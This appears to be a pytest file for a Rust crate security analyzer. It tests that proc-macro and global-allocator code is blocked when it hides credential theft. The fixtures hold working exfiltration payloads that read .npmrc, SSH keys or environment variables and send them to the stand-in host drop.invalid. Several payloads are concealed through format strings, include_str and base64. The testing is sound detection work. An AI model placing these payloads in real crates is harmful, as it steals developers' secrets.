"""Code that macros emit: as tokens, as texts, out of packaged or encoded text; allocators."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Phase, Report, Span, Verdict

ReportOf = Callable[[Mapping[str, str]], Report]
MANIFEST = """
[package]
name = "sample-crate"
version = "0.1.0"
edition = "2021"
[lib]
proc-macro = true
[dependencies]
base64 = "0.22"
syn = "2"
quote = "1"
"""
MACROS: dict[str, dict[str, str]] = {
    "parse literal": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            #[proc_macro_derive(X)] pub fn x(_: TokenStream) -> TokenStream { "impl Y { fn z() {
                let k = ::std::fs::read(::std::env::var(\"HOME\").unwrap() + \"/.npmrc\").unwrap();
            use ::std::io::Write;
                ::std::net::TcpStream::connect(\"drop.invalid:80\").unwrap().write_all(&k).ok();
                } }".parse().unwrap() }""",
    },
    "raw literal": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            #[proc_macro_derive(X)] pub fn x(_: TokenStream) -> TokenStream { r##"impl Y { fn z() {
                let k = ::std::fs::read(::std::env::var("HOME").unwrap() + "/.npmrc").unwrap();
            use ::std::io::Write;
                ::std::net::TcpStream::connect("drop.invalid:80").unwrap().write_all(&k).ok();
                } }"##.parse().unwrap() }""",
    },
    "format": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            #[proc_macro_derive(X)] pub fn x(i: TokenStream) -> TokenStream {
                let n = i.to_string(); format!("impl {n} {{ fn z() {{
                let k = ::std::fs::read(::std::env::var(\"HOME\").unwrap() + \"/.npmrc\").unwrap();
            use ::std::io::Write;
                ::std::net::TcpStream::connect(\"drop.invalid:80\").unwrap().write_all(&k).ok();
                }} }}").parse().unwrap() }""",
    },
    "push_str": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            #[proc_macro] pub fn x(_: TokenStream) -> TokenStream {
                let mut s = String::from("fn z() { ");
                s.push_str("let k = ::std::fs::read(::std::env::var(\"HOME\").unwrap() + \"/.npmrc\").unwrap();
            use ::std::io::Write;
                ::std::net::TcpStream::connect(\"drop.invalid:80\").unwrap().write_all(&k).ok();");
                s += " }"; s.parse().unwrap() }""",
    },
    "from_str": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            use std::str::FromStr;
            const T: &str = "fn z() {
                let k = ::std::fs::read(::std::env::var(\"HOME\").unwrap() + \"/.npmrc\").unwrap();
            use ::std::io::Write;
                ::std::net::TcpStream::connect(\"drop.invalid:80\").unwrap().write_all(&k).ok(); }";
            #[proc_macro_attribute] pub fn x(_: TokenStream, _: TokenStream) -> TokenStream {
                TokenStream::from_str(T).unwrap() }""",
    },
    "syn parse_str": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            #[proc_macro] pub fn x(_: TokenStream) -> TokenStream {
                let b: syn::Block = syn::parse_str("{
                let k = ::std::fs::read(::std::env::var(\"HOME\").unwrap() + \"/.npmrc\").unwrap();
            use ::std::io::Write;
                ::std::net::TcpStream::connect(\"drop.invalid:80\").unwrap().write_all(&k).ok();
                }").unwrap(); quote::quote!(fn z() #b).into() }""",
    },
    "joined": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            #[proc_macro] pub fn x(_: TokenStream) -> TokenStream {
                let p = ["std", "net", "TcpStream", "connect"].join("::"); format!("fn z() {{
                let k = std::env::vars().map(|(k, v)| k + &v).collect::<String>();
            use std::io::Write; {p}(\"drop.invalid:80\").unwrap().write_all(k.as_bytes()).ok();
                }}").parse().unwrap() }""",
    },
    "write macro": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            use std::fmt::Write;
            #[proc_macro_derive(X)] pub fn x(_: TokenStream) -> TokenStream {
                let mut s = String::new(); write!(s, "fn z() {{
                let k = ::std::fs::read(::std::env::var(\"HOME\").unwrap() + \"/.npmrc\").unwrap();
            use ::std::io::Write;
                ::std::net::TcpStream::connect(\"drop.invalid:80\").unwrap().write_all(&k).ok();
                }}").unwrap(); s.parse().unwrap() }""",
    },
    "include_str": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            #[proc_macro] pub fn x(_: TokenStream) -> TokenStream {
                include_str!("../t.txt").parse().unwrap() }""",
        "t.txt": r"""
            fn z() { let k = ::std::fs::read(::std::env::var("HOME").unwrap() + "/.npmrc").unwrap();
            use ::std::io::Write;
                ::std::net::TcpStream::connect("drop.invalid:80").unwrap().write_all(&k).ok(); }""",
    },
    "base64": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            use base64::Engine as _;
            #[proc_macro] pub fn x(_: TokenStream) -> TokenStream {
                String::from_utf8(base64::prelude::BASE64_STANDARD.decode("Zm4geigpIHsgbGV0IGsgPSA6OnN0ZDo6ZnM6OnJlYWQoOjpzdGQ6OmVudjo6dmFyKCJIT01FIikudW53cmFwKCkgKyAiLy5ucG1yYyIpLnVud3JhcCgpOyB1c2UgOjpzdGQ6OmlvOjpXcml0ZTsgOjpzdGQ6Om5ldDo6VGNwU3RyZWFtOjpjb25uZWN0KCJkcm9wLmludmFsaWQ6ODAiKS51bndyYXAoKS53cml0ZV9hbGwoJmspLm9rKCk7IH0=").unwrap()).unwrap().parse().unwrap() }""",
    },
    "quote": {
        "src/lib.rs": r"""
            use proc_macro::TokenStream;
            use quote::quote;
            #[proc_macro] pub fn x(_: TokenStream) -> TokenStream { quote! { fn z() {
                let k = ::std::fs::read(::std::env::var("HOME").unwrap() + "/.npmrc").unwrap();
            use ::std::io::Write;
                ::std::net::TcpStream::connect("drop.invalid:80").unwrap().write_all(&k).ok();
                } }.into() }""",
    },
}


@pytest.mark.parametrize("files", MACROS.values(), ids=MACROS)
def test_what_a_macro_emits_is_read(report_of: ReportOf, files: dict[str, str]) -> None:
    report = report_of({"Cargo.toml": MANIFEST, **files})
    assert report.verdict is Verdict.BLOCK
    assert {Phase.PROC_MACRO} <= {one for each in report.findings for one in each.phases}


def test_evidence_in_a_text_stands_at_its_line(report_of: ReportOf) -> None:
    code = r"""use proc_macro::TokenStream;
#[proc_macro_derive(X)]
pub fn x(_: TokenStream) -> TokenStream {
    format!(
        "fn z() {{ \
           let k = ::std::fs::read(\"/root/.ssh/id_rsa\").unwrap(); \
           use ::std::io::Write; \
           {net}::connect(\"drop.invalid:80\").unwrap().write_all(&k).ok(); }}",
        net = "::std::net::TcpStream"
    ).parse().unwrap()
}"""
    report = report_of({"Cargo.toml": MANIFEST, "src/lib.rs": code})
    lines = {
        each.where.line
        for one in report.findings
        for each in one.evidence
        if isinstance(each.where, Span)
    }
    assert {6, 8} <= lines


def test_a_message_that_names_a_path_is_no_code(report_of: ReportOf) -> None:
    code = """use proc_macro::TokenStream;
        #[proc_macro]
        pub fn x(i: TokenStream) -> TokenStream {
            if i.is_empty() { panic!("use std::fs::read (or std::net::TcpStream) instead") }
            i
        }"""
    assert report_of({"Cargo.toml": MANIFEST, "src/lib.rs": code}).verdict is Verdict.CLEAR


@pytest.mark.parametrize("method", ["alloc", "dealloc", "realloc", "alloc_zeroed"])
def test_an_allocator_runs_at_load_time(report_of: ReportOf, method: str) -> None:
    code = f"""
        use std::alloc::{{GlobalAlloc, Layout, System}};
        struct Counting;
        #[global_allocator]
        static A: Counting = Counting;
        unsafe impl GlobalAlloc for Counting {{ unsafe fn {method}(&self) {{ tick(); }} }}
        fn tick() {{ std::thread::spawn(|| std::net::TcpStream::connect("drop.invalid:80")); }}"""
    report = report_of({"src/lib.rs": code})
    assert report.verdict is Verdict.BLOCK
    assert Phase.LOAD in {one for each in report.findings for one in each.phases}
